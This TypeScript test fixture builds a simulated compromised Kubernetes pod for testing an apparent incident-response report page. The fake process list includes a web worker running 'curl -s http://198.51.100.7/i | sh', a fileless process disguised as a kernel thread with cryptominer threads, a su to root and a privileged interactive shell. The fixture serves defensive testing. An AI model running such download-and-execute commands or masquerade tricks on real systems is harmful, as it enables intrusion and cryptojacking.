/** A capture for the tests of the report page: a pod of two containers in which something is wrong. */
import type { PodCapture, PrintedRow } from '../../src/api/podcapture.js';
import {
  condition,
  containerCapture,
  podCapture,
  processRow,
  threadRow,
  threadRows,
  timings,
} from '../unit/builders.js';

const DEFAULT = '00000000a80425fb';
const EVERYTHING = '000001ffffffffff';
const NONE = '0000000000000000';
export const WEB = '/kubepods.slice/kubepods-pod6f0c2f2e_5a0e_4c6b_9d53_0a6f6f7a4a11.slice/cri-containerd-8c1f.scope';
export const LOGS = WEB.replace('8c1f', '77ab');

const nginx = (set: string) => ({
  inheritable: NONE,
  permitted: set,
  effective: set,
  bounding: DEFAULT,
  ambient: NONE,
});
const privileged = {
  inheritable: NONE,
  permitted: EVERYTHING,
  effective: EVERYTHING,
  bounding: EVERYTHING,
  ambient: NONE,
};
const ids = (id: number) => ({ real: id, effective: id, saved: id, filesystem: id });
const inodes = (first: number) => ({
  cgroup: first,
  ipc: first + 1,
  mnt: first + 2,
  net: 4026532500,
  pid: first + 3,
  time: 4026531834,
  user: 4026531837,
  uts: first + 4,
});
export const shop = {
  namespaces: inodes(4026532600),
  cgroup: WEB,
  capabilities: nginx(DEFAULT),
  seccomp: 'Filter',
} as const;
export const logs = {
  namespaces: inodes(4026532700),
  cgroup: LOGS,
  capabilities: nginx(NONE),
  seccomp: 'Filter',
} as const;
export const www = { uids: ids(101), gids: ids(101), capabilities: nginx(NONE), noNewPrivileges: true } as const;

const WORKERS = Array.from({ length: 4 }, (_, index) =>
  processRow({
    ...shop,
    ...www,
    pid: 41_230 + index,
    ppid: 41_207,
    comm: 'nginx',
    exe: '/usr/sbin/nginx',
    cmdline: ['nginx: worker process'],
    nsPids: [41_230 + index, 29 + index],
    threads: threadRows(41_230 + index, 'nginx', index === 2 ? Array.from({ length: 31 }, () => 'aio-thread') : []),
  }),
);

const SHOP_ROWS: readonly PrintedRow[] = [
  processRow({
    ...shop,
    pid: 41_188,
    ppid: 41_160,
    comm: 'tini',
    exe: '/usr/bin/tini',
    cmdline: ['/usr/bin/tini', '--', '/entrypoint.sh'],
    nsPids: [41_188, 1],
  }),
  processRow({
    ...shop,
    pid: 41_207,
    ppid: 41_188,
    comm: 'nginx',
    exe: '/usr/sbin/nginx',
    cmdline: ['nginx: master process nginx -g daemon off;'],
    nsPids: [41_207, 7],
  }),
  ...WORKERS,
  processRow({
    ...shop,
    ...www,
    pid: 41_250,
    ppid: 41_188,
    comm: 'php-fpm8.2',
    exe: '/usr/sbin/php-fpm8.2',
    cmdline: ['php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)'],
    nsPids: [41_250, 40],
  }),
  processRow({
    ...shop,
    ...www,
    pid: 41_262,
    ppid: 41_250,
    comm: 'php-fpm8.2',
    exe: '/usr/sbin/php-fpm8.2',
    cmdline: ['php-fpm: pool www'],
    nsPids: [41_262, 46],
  }),
  processRow({
    ...shop,
    ...www,
    pid: 52_871,
    ppid: 41_262,
    comm: 'sh',
    exe: '/usr/bin/dash',
    cmdline: ['sh', '-c', 'curl -s http://198.51.100.7/i | sh'],
    nsPids: [52_871, 611],
  }),
  processRow({
    ...shop,
    ...www,
    pid: 52_874,
    ppid: 52_871,
    comm: 'kworker/0:1',
    exe: '/memfd:x (deleted)',
    cmdline: ['[kworker/0:1]'],
    nsPids: [52_874, 614],
    seccomp: 'Disabled',
    threads: [
      threadRow({ tid: 52_874, comm: 'kworker/0:1' }),
      threadRow({ tid: 52_875, comm: 'xmr-0', uids: ids(0) }),
      threadRow({ tid: 52_876, comm: 'xmr-1' }),
    ],
  }),
  processRow({
    ...shop,
    pid: 52_902,
    ppid: 52_871,
    comm: 'su',
    exe: '/usr/bin/su',
    cmdline: ['su', '-'],
    uids: { real: 101, effective: 0, saved: 0, filesystem: 0 },
    nsPids: [52_902, 620],
  }),
  processRow({
    ...shop,
    ...www,
    pid: 52_910,
    ppid: 52_871,
    comm: 'vi',
    exe: '/tmp/.cache/vi',
    state: 'Stopped',
    stopSignal: 'SIGTSTP',
    cmdline: ['vi', 'notes'],
    nsPids: [52_910, 622],
  }),
  processRow({
    ...shop,
    ...www,
    pid: 52_920,
    ppid: 52_871,
    comm: 'curl',
    state: 'Zombie',
    threads: [],
    nsPids: [52_920, 630],
  }),
  processRow({
    ...shop,
    capabilities: privileged,
    seccomp: 'Disabled',
    namespaces: { ...inodes(4026532600), mnt: 4026532911 },
    pid: 60_001,
    ppid: 0,
    comm: 'bash',
    exe: '/usr/bin/bash',
    cmdline: ['bash', '-i'],
    nsPids: [60_001, 700],
  }),
];

const LOG_ROWS: readonly PrintedRow[] = [
  processRow({
    ...logs,
    pid: 41_300,
    ppid: 41_281,
    comm: 'fluent-bit',
    exe: '/fluent-bit/bin/fluent-bit',
    cmdline: ['/fluent-bit/bin/fluent-bit', '-c', '/fluent-bit/etc/fluent-bit.conf'],
    uids: ids(838_860_800),
    gids: ids(838_860_800),
    containerUids: ids(0),
    containerGids: ids(0),
    nsPids: [41_300, 1],
    threads: threadRows(41_300, 'fluent-bit', ['flb-pipeline', 'flb-out-es.0-w0', 'flb-out-es.0-w1', 'flb-logger']),
  }),
  processRow({
    ...logs,
    pid: 41_344,
    ppid: 41_300,
    comm: 'flb-helper',
    exe: '/fluent-bit/bin/helper (deleted)',
    uids: ids(838_860_800),
    gids: ids(838_860_800),
    containerUids: ids(0),
    containerGids: ids(0),
    nsPids: [41_344, 12],
  }),
];

/** A pod of two containers as an incident responder finds it, held for ten minutes. */
export function incident(): PodCapture {
  const tree = [...SHOP_ROWS, ...LOG_ROWS];
  const capture = podCapture({
    startTime: '2026-11-27T22:14:03Z',
    completionTime: '2026-11-27T22:24:03Z',
    tree,
    containers: [
      containerCapture({
        name: 'web',
        containerID: '8c1f'.repeat(16),
        cgroupPath: WEB,
        processes: SHOP_ROWS.length,
        threads: 45,
      }),
      containerCapture({
        name: 'logs',
        containerID: '77ab'.repeat(16),
        cgroupPath: LOGS,
        processes: 2,
        threads: 6,
        wasFrozen: true,
      }),
    ],
    conditions: [
      condition({ message: '', lastTransitionTime: '2026-11-27T22:24:03Z' }),
      condition({ type: 'Released', reason: 'FreezersRestored', lastTransitionTime: '2026-11-27T22:24:03Z' }),
      condition({
        type: 'Held',
        status: 'False',
        reason: 'HoldElapsed',
        message: 'held for 10m00.000s',
        lastTransitionTime: '2026-11-27T22:24:03Z',
      }),
    ],
    unfrozen: [
      {
        tid: 52_931,
        comm: 'php-fpm8.2',
        state: 'D',
        cause: 'Uninterruptible',
        waitChannel: 'rpc_wait_bit_killable',
        stack: ['rpc_wait_bit_killable', '__rpc_execute', 'nfs4_call_sync_sequence', 'nfs4_proc_getattr'],
      },
    ],
    timings: timings({
      resolveMicroseconds: 412,
      cgroupFreezeMicroseconds: 1204,
      seizeMicroseconds: 2011,
      stopMicroseconds: 800,
      cgroupThawMicroseconds: 310,
      collectMicroseconds: 5120,
      holdMicroseconds: 600_000_311,
      releaseMicroseconds: 873,
      freezingMicroseconds: 9445,
      pauseMicroseconds: 600_010_718,
    }),
  });
  const status = {
    ...capture.status,
    heldFrom: '2026-11-27T22:14:03.204117Z',
    heldUntil: '2026-11-27T22:24:03.204428Z',
    freezeSkewMicroseconds: 96,
  };
  return { ...capture, metadata: { name: 'web-8e034fea87' }, status };
}
